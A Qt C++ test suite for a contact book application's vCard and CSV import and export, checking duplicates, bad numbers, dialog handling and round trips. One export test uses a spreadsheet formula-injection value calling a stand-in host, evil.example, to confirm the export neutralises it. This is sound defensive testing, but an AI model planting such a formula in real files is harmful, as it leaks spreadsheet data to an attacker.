#include "LoggedInProfile.h"
#include "TestProfile.h"
#include "contacts/ContactBook.h"
#include "contacts/ContactStore.h"
#include "contacts/PhoneNumbers.h"
#include "contacts/ui/ImportContactsDialog.h"
#include "contacts/ui/ImportRowModel.h"
#include "platform/Registry.h"
#include "platform/ui/Prompts.h"
#include "shell/MainUnit.h"

#include <QApplication>
#include <QCheckBox>
#include <QComboBox>
#include <QFile>
#include <QLabel>
#include <QPushButton>
#include <QTableView>
#include <QTest>
#include <QTimer>

#include <algorithm>

namespace {

BookEntry entry(const QString& caption, const QString& number = {}, const QString& sign = {},
                const QString& sender = {}, bool translit = false) {
    return {caption, caption, number, sender, sign, translit, false};
}

QList<BookGroup> startBook() {
    return {{entry(QStringLiteral("Друзья")), {entry("Оля", QStringLiteral("+79160000001"))}}};
}

// Groups and contacts as "Group", "  Name Number" lines.
QStringList lines(const QList<BookGroup>& groups) {
    QStringList all;
    for (const BookGroup& g : groups) {
        all << g.entry.caption;
        for (const BookEntry& c : g.contacts)
            all << QStringLiteral("  %1 %2").arg(c.caption, c.Number);
    }
    return all;
}

// What the import dialog showed, and how it was left.
struct Seen {
    QString counts;
    // "line | name | number | fate" of each row that is not plainly new
    QStringList passedOver;
    bool shown = false;
};

QStringList rowsNotNew(const QAbstractItemModel& rows) {
    QStringList lines;
    for (int row = 0; row < rows.rowCount(); ++row) {
        QStringList cells;
        for (int column : {ImportRowModel::LineColumn, ImportRowModel::NameColumn,
                           ImportRowModel::NumberColumn, ImportRowModel::FateColumn})
            cells << rows.index(row, column).data().toString();
        if (cells.last() != QStringLiteral("новый"))
            lines << cells.join(QStringLiteral(" | "));
    }
    return lines;
}

} // namespace

// The book to and from files through the main window's menu, into the real store.
class BookFilesTest : public QObject {
    Q_OBJECT
    TestProfile m_profile;
    std::unique_ptr<TMainForm> m_form;

    ContactBook& book() const { return m_form->book(); }

    QString writeFile(const QString& name, const QByteArray& bytes) const {
        const QString path = m_profile.root() + QLatin1Char('/') + name;
        QFile file(path);
        if (!file.open(QIODevice::WriteOnly))
            return {};
        file.write(bytes);
        return path;
    }

    // Runs the menu's import with `path` answered, and the dialog (when it comes) accepted
    // or cancelled, after choosing `group` for rows without one.
    Seen importThroughMenu(const QString& path, bool accept, const QString& group = {},
                           bool allNumbers = false) {
        Seen seen;
        // Gone with this call, so it cannot answer a later test's dialog when none came here.
        QTimer answer;
        answer.setSingleShot(true);
        connect(&answer, &QTimer::timeout, this, [&] {
            auto* dialog = qobject_cast<ImportContactsDialog*>(QApplication::activeModalWidget());
            if (!dialog)
                return;
            seen.shown = true;
            if (!group.isEmpty()) {
                dialog->groupBox()->setEditText(group);
                // Planned again after a pause in typing: rows without a group go there.
                QTRY_VERIFY(
                    std::any_of(dialog->plan().steps.begin(), dialog->plan().steps.end(),
                                [&](const BookImport::Step& step) { return step.group == group; }));
            }
            dialog->allNumbersBox()->setChecked(allNumbers);
            seen.counts = dialog->countsLabel()->text();
            seen.passedOver = rowsNotNew(*dialog->rowsView()->model());
            if (accept)
                dialog->importButton()->click();
            else
                dialog->reject();
        });
        answer.start(0);
        Prompts::queueAnswer(path);
        m_form->importContactsAction()->trigger();
        return seen;
    }

    QList<BookGroup> storedBook() const { return ContactStore::readBook(Registry()); }

private slots:
    void initTestCase() { Prompts::enableTestMode(); }

    void init() {
        m_form = LoggedInProfile::start(startBook(), 9, QStringLiteral("varnelo-bookfiles-test"));
        QCOMPARE(m_form->creation(), TMainForm::Creation::Running);
        Prompts::takeAsked();
    }

    void cleanup() { m_form.reset(); }

    void importShowsThenApplies_data() {
        QTest::addColumn<QByteArray>("file");
        QTest::addColumn<QString>("group");
        QTest::addColumn<bool>("allNumbers");
        QTest::addColumn<QString>("counts");
        QTest::addColumn<QStringList>("passedOver");
        QTest::addColumn<QStringList>("after");

        QTest::newRow("vCard into the chosen group, a duplicate and a bad number")
            << QByteArray(
                   "BEGIN:VCARD\r\nVERSION:2.1\r\nN:Петрова;Анна\r\nTEL;CELL:8 916 000-00-05\r\n"
                   "END:VCARD\r\nBEGIN:VCARD\r\nVERSION:3.0\r\nFN:Оля\r\n"
                   "TEL:+7 916 000 00 01\r\nCATEGORIES:Друзья\r\nEND:VCARD\r\n"
                   "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Сосед\r\nTEL:12\r\nEND:VCARD\r\n")
            << "Работа" << false
            << "Новых контактов: 1\nУже есть в книге: 1\nПовтор в файле: 0\n"
               "С ошибкой в номере: 1\nНовых групп: 1"
            << QStringList{"6 | Оля | +79160000001 | уже есть в книге",
                           "12 | Сосед | 12 | неверный номер"}
            << QStringList{"Друзья", "  Оля +79160000001", "Работа", "  Анна Петрова +79160000005"};
        QTest::newRow("CSV without groups goes to Без группы, a name fitted, a repeat")
            << QByteArray("Имя;Телефон\r\nHans Müller;89160000006\r\nБез номера;\r\n"
                          "Ещё раз;+79160000006\r\n")
            << "" << false
            << "Новых контактов: 1\nУже есть в книге: 0\nПовтор в файле: 1\n"
               "С ошибкой в номере: 1\nНовых групп: 1\nИзменено имён: 1"
            << QStringList{"2 | Hans Muller | +79160000006 | новый; изменено имя: Hans Müller → "
                           "Hans Muller",
                           "3 | Без номера |  | без номера",
                           "4 | Ещё раз | +79160000006 | повтор в файле"}
            << QStringList{"Друзья", "  Оля +79160000001", "Без группы",
                           "  Hans Muller +79160000006"};
        const QByteArray twoNumbers("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Пётр\r\n"
                                    "TEL;TYPE=WORK:+7 (495) 222-22-22\r\nTEL;TYPE=CELL:*6655\r\n"
                                    "TEL;TYPE=HOME:8 916 000 00 07\r\nEND:VCARD\r\n");
        QTest::newRow("a card's first valid number")
            << twoNumbers << "" << false
            << "Новых контактов: 1\nУже есть в книге: 0\nПовтор в файле: 0\n"
               "С ошибкой в номере: 0\nНовых групп: 1"
            << QStringList{"1 | Пётр | +74952222222 | новый; ещё номеров: 2"}
            << QStringList{"Друзья", "  Оля +79160000001", "Без группы", "  Пётр +74952222222"};
        QTest::newRow("a card's every number")
            << twoNumbers << "" << true
            << "Новых контактов: 2\nУже есть в книге: 0\nПовтор в файле: 0\n"
               "С ошибкой в номере: 0\nНовых групп: 1"
            << QStringList{"1 | Пётр | +74952222222 | новый; ещё номеров: 1"}
            << QStringList{"Друзья", "  Оля +79160000001", "Без группы", "  Пётр +74952222222",
                           "  Пётр (домашний) +79160000007"};
    }
    void importShowsThenApplies() {
        QFETCH(QByteArray, file);
        QFETCH(QString, group);
        QFETCH(QString, counts);
        QFETCH(bool, allNumbers);
        QFETCH(QStringList, passedOver);
        QFETCH(QStringList, after);

        const Seen seen =
            importThroughMenu(writeFile(QStringLiteral("in.txt"), file), true, group, allNumbers);
        QVERIFY(seen.shown);
        QCOMPARE(seen.counts, counts);
        QCOMPARE(seen.passedOver, passedOver);
        QCOMPARE(lines(book().groups()), after);
        QCOMPARE(lines(storedBook()), after);
        QVERIFY(Prompts::takeAsked().size() == 1); // the file prompt only
    }

    // Keyboard only: the group's text is selected, so typing replaces it; Enter imports and
    // Escape cancels.
    void previewByKeyboard_data() {
        QTest::addColumn<int>("key");
        QTest::addColumn<int>("result");
        QTest::newRow("Enter") << int(Qt::Key_Return) << int(QDialog::Accepted);
        QTest::newRow("Escape") << int(Qt::Key_Escape) << int(QDialog::Rejected);
    }
    void previewByKeyboard() {
        QFETCH(int, key);
        QFETCH(int, result);
        const PhoneNumbers* numbers = PhoneNumbers::get(nullptr);
        QVERIFY(numbers);
        ImportedContact row;
        row.name = QStringLiteral("Иван");
        row.number = QStringLiteral("89160000006");
        ImportContactsDialog dialog(QStringLiteral("in.csv"), {row}, startBook(), *numbers);
        dialog.show();
        QVERIFY(QTest::qWaitForWindowActive(&dialog));
        QVERIFY(dialog.focusWidget());
        QTest::keyClicks(dialog.focusWidget(), QStringLiteral("From phone"));
        QCOMPARE(dialog.groupBox()->currentText(), QStringLiteral("From phone"));
        QTRY_COMPARE(dialog.plan().steps.value(0).group, QStringLiteral("From phone"));
        QTest::keyClick(dialog.focusWidget(), Qt::Key(key));
        QTRY_VERIFY(!dialog.isVisible());
        QCOMPARE(dialog.result(), result);
    }

    void cancelChangesNothing() {
        const QString path = writeFile(QStringLiteral("in.csv"), "Name,Phone\nИван,9160000006\n");
        const Seen seen = importThroughMenu(path, false);
        QVERIFY(seen.shown);
        QCOMPARE(lines(book().groups()), lines(startBook()));
        QCOMPARE(lines(storedBook()), lines(startBook()));
    }

    void fileThatIsNoContactsIsTold_data() {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("message");
        QTest::newRow("no contact table")
            << writeFile(QStringLiteral("notes.txt"), "a,b\n1,2\n") << "не найдены контакты";
        QTest::newRow("missing file")
            << m_profile.root() + QStringLiteral("/gone.vcf") << "Не удалось открыть файл";
    }
    void fileThatIsNoContactsIsTold() {
        QFETCH(QString, path);
        QFETCH(QString, message);
        const Seen seen = importThroughMenu(path, true);
        QVERIFY(!seen.shown);
        const QList<Prompts::Asked> asked = Prompts::takeAsked();
        QCOMPARE(asked.size(), 2);
        QVERIFY2(asked[1].text.contains(message), qPrintable(asked[1].text));
        QCOMPARE(lines(storedBook()), lines(startBook()));
    }

    void exportThenImportGivesTheSameBook_data() {
        QTest::addColumn<QString>("fileName");
        QTest::addColumn<bool>("keepsEmptyGroups");
        QTest::newRow("vCard") << "book.vcf" << false;
        QTest::newRow("CSV") << "book.csv" << true;
    }
    void exportThenImportGivesTheSameBook() {
        QFETCH(QString, fileName);
        QFETCH(bool, keepsEmptyGroups);
        const QList<BookGroup> original{
            {entry(QStringLiteral("Работа; отдел \"А\"")),
             {entry(QStringLiteral("Петров, Пётр"), QStringLiteral("+79161234567"),
                    QStringLiteral("С уважением,\\ Пётр"), QStringLiteral("SHOP"), true),
              entry(QStringLiteral("John Smith"), QStringLiteral("+442079460958")),
              // Guarded against spreadsheets on the way out, read back as it was.
              entry(QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажми\")"),
                    QStringLiteral("+79161234500"), QStringLiteral("-x"))}},
            {entry(QStringLiteral("Пустая")), {}},
            {entry(QStringLiteral("Друзья")),
             {entry(QStringLiteral("Оля"), QStringLiteral("+79160000001"), {}, {}, false)}}};
        book().setGroups(original);
        const QString path = m_profile.root() + QLatin1Char('/') + fileName;
        Prompts::queueAnswer(path);
        m_form->exportContactsAction()->trigger();
        QVERIFY(QFile::exists(path));

        book().clear();
        QVERIFY(importThroughMenu(path, true).shown);
        QList<BookGroup> expected = original;
        if (!keepsEmptyGroups)
            expected.removeAt(1);
        QCOMPARE(book().groups(), expected);
    }
};

QTEST_MAIN(BookFilesTest)
#include "BookFilesTest.moc"
